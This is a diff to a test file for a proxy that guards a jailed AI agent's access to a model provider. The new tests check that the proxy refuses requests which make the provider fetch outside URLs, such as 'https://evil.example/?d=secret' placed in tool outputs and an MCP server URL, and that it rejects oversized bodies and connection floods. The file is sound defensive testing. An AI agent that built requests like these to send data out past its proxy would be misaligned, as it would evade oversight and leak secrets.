@@ -4,7 +4,8 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { createLogger } from '@threadwork/platform';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startModelProxy, type ModelProxy } from './model-proxy.js';
+import { connect, type Socket } from 'node:net';
+import { MAX_CONNECTIONS, startModelProxy, type ModelProxy } from './model-proxy.js';
 
 // The model endpoint as the jail reaches it: the key is added outside, and what the agent may
 // write in a request's body and headers is what a harness sends, nothing that makes the provider
@@ -27,6 +28,12 @@ const codexLike = () => ({
     { type: 'message', role: 'user', content: [{ type: 'input_image', image_url: 'data:image/png;base64,iVBORw0K' }] },
   ],
   tools: [
+    // A tool's parameters are a JSON Schema: its property names are not content.
+    {
+      type: 'function',
+      name: 'view_image',
+      parameters: { type: 'object', properties: { image_url: { type: 'string' }, file_id: { type: 'string' } } },
+    },
     { type: 'function', name: 'exec_command' },
     { type: 'custom', name: 'apply_patch' },
     { type: 'namespace', name: 'multi_agent_v1' },
@@ -113,6 +120,39 @@ describe('the model proxy', () => {
     ['a stored prompt', { prompt: { id: 'pmpt_1' } }],
     ['a background run', { background: true }],
     ['storing the conversation', { store: true }],
+    // Content travels in tool outputs and nested tools as it does in the input.
+    [
+      'an image fetched from a URL in a tool’s output',
+      {
+        input: [
+          {
+            type: 'function_call_output',
+            call_id: 'c1',
+            output: [{ type: 'input_image', image_url: 'https://evil.example/?d=secret' }],
+          },
+        ],
+      },
+    ],
+    [
+      'a file URL in a custom tool’s output',
+      {
+        input: [
+          {
+            type: 'custom_tool_call_output',
+            call_id: 'c1',
+            output: [{ type: 'input_file', file_url: 'https://evil.example/f' }],
+          },
+        ],
+      },
+    ],
+    [
+      'a screenshot fetched from a URL',
+      { input: [{ type: 'computer_call_output', call_id: 'c1', output: { image_url: 'https://evil.example/s.png' } }] },
+    ],
+    [
+      'the provider’s tools inside a namespace',
+      { tools: [{ type: 'namespace', name: 'ns', tools: [{ type: 'mcp', server_url: 'https://evil.example/mcp' }] }] },
+    ],
   ])('refuses %s, forwarding nothing, and says why', async (_what, change) => {
     const before = received.length;
     const res = await post('/v1/responses', { ...codexLike(), ...change });
@@ -120,6 +160,38 @@ describe('the model proxy', () => {
     expect(res.text).toMatch(/^refused: /);
     expect(received.length).toBe(before);
     expect(refusals.at(-1)).toBe(res.text.replace(/^refused: /, '').trim());
+  });
+
+  it('refuses a body of too many objects before parsing it, and forwards nothing', async () => {
+    const before = received.length;
+    const res = await post('/v1/responses', { ...codexLike(), input: Array.from({ length: 300_000 }, () => ({})) });
+    expect(res.status).toBe(403);
+    expect(res.text).toMatch(/more than 250000 JSON objects and arrays/);
+    expect(received.length).toBe(before);
+    // Brackets inside strings are text, not structure.
+    const text = await post('/v1/responses', {
+      ...codexLike(),
+      input: [{ type: 'message', role: 'user', content: [{ type: 'input_text', text: '{['.repeat(300_000) }] }],
+    });
+    expect(text.status).toBe(200);
+  });
+
+  it('holds no more of the runner’s connections for a jail than its bound, and serves again after', async () => {
+    const open = (): Promise<Socket> =>
+      new Promise((resolve, reject) => {
+        const socket = connect(proxy.socketPath, () => resolve(socket));
+        socket.on('error', reject);
+      });
+    const held: Socket[] = [];
+    for (let i = 0; i < MAX_CONNECTIONS; i++) held.push(await open());
+    // The next one is closed by the proxy as it comes.
+    const extra = await open();
+    await new Promise<void>((resolve) => {
+      extra.once('close', () => resolve());
+      extra.resume();
+    });
+    for (const socket of held) socket.destroy();
+    await expect.poll(async () => (await post('/v1/responses', codexLike())).status, { timeout: 30_000 }).toBe(200);
   });
 
   it('refuses a body that is not JSON', async () => {
